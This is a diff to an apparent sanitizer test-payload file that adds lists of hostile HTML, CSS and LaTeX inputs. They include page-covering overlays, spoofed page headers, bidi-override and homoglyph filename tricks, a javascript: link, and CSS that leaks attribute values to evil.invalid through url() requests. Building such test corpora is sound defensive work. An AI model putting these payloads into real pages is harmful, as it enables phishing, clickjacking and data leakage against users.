@@ -90,4 +90,32 @@ LANGUAGES = [
     "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "\\u003cscript\\u003exss()\\u003c/script\\u003e",
 ]
 
-PAYLOADS = BREAKOUTS + ATTRIBUTES + ADDRESSES + ELEMENTS + LANGUAGES
+#: What paints over its surroundings, or pushes them out of sight, with nothing but styles and mathematics that are allowed.
+_BIG = "width:4000px;min-height:4000px;background:#fff"
+OVERLAYS = [
+    "<span style='padding:200px;background:#fff'>x</span>", "<a href='https://evil.invalid/' style='padding:200px;border:20px solid red'>x</a>",
+    "<span style='padding:200px;background:#fff'>" * 10 + "x", f"<div style='{_BIG}'>x</div>", f"<div dir=rtl><div style='{_BIG}'>x</div></div>",
+    "<div style='margin-left:200px'>" * 10 + "<div style='background:#fff;width:1000px'>x", f"<pre style='{_BIG}'>x</pre>", f"<hr style='{_BIG};margin:200px'>",
+    f"<img style='max-width:4000px;{_BIG}' src='data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs='>",
+    f"<progress style='{_BIG}'></progress>", f"<details open style='{_BIG}'><summary>x</summary>y</details>", f"<table style='{_BIG}'><td style='{_BIG};padding:200px'>x</table>",
+    "<sup style='font-size:400%'>" * 6 + "x", "<ruby>x<rt style='font-size:400%;padding:200px;background:#fff'>y</rt></ruby>", "<ruby>x<rt>" * 40 + "y",
+    "<div style='margin:-9999px;position:fixed;inset:0;z-index:9;float:left;transform:scale(99);opacity:0;line-height:0;text-indent:-999px;letter-spacing:99px'>x</div>",
+    "a" + "\u0300\u0301\u0302" * 200 + "b" + "\u0316\u0317\u0323" * 200, "$\\rule{1e9em}{1e9em}\\rule{100em}{100em}$", "$\\smash{\\rule{90em}{90em}}$",
+    "$\\raisebox{60em}{\\rule{90em}{50em}}$", "$\\llap{\\rule{90em}{90em}}$", "$\\hspace{-90em}\\smash{\\href{https://evil.invalid/}{\\rule{90em}{90em}}}$",
+    "$\\Huge\\smash{\\text{\\Huge " + "M" * 100 + "}}$", "$$\\raisebox{-60em}{\\colorbox{white}{\\rule{90em}{50em}}}$$",
+]
+
+#: What poses as a part of the page, or turns text around.
+POSES = [
+    "<p class='notice status status-succeeded facts page-header'>succeeded</p>", "<header class=page-header><h1>x</h1><nav class='page-nav toc'><a class=download href=x>Download</a></nav></header>",
+    "<aside class=notices>x</aside><footer class=page-footer>y</footer>", "<input type=checkbox id=sg-code class=code-switch checked><label for=sg-code>x</label>",
+    "<link rel=icon href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">", "<link rel='shortcut icon' href=x.svg>", "<svg><link rel=icon href=x></svg>",
+    "a\u202eb\u202dc", "\u2067x\u2066y\u2068z", "\u2069\u202c\u2069", "a\u200b\u200d\ufeff\u2060b", "report\u202efdp.ipynb", "p\u0430ypal", "<bdo dir=rtl>x", "<p dir=rtl lang=ar>x",
+    "<div contenteditable tabindex=1 accesskey=x autofocus draggable=true inert popover is=x-y slot=z part=p>x</div>", "<a href=x target=report ping=https://evil.invalid download=x>x</a>",
+    "<map name=m><area href=javascript:xss() shape=default></map><img usemap=#m src=x>", "<fencedframe></fencedframe><portal src=https://evil.invalid></portal>",
+    "<p id=a>x</p><p id=a>y</p><a href=#a>z</a>", "<style>#a:hover{background:url(https://evil.invalid/x)} #a[value^=x]{cursor:url(https://evil.invalid/y),auto} body>header{display:none}</style><p id=a>x</p>",
+    "<p style='background:image-set(\"https://evil.invalid/x\" 1x);list-style:url(https://evil.invalid/y);cursor:url(https://evil.invalid/z);content:url(https://evil.invalid/w)'>x</p>",
+    "__proto__", "constructor", "toString", "</script>\u2028\u2029<!--<script>", "nan", "1e999",
+]
+
+PAYLOADS = BREAKOUTS + ATTRIBUTES + ADDRESSES + ELEMENTS + LANGUAGES + OVERLAYS + POSES
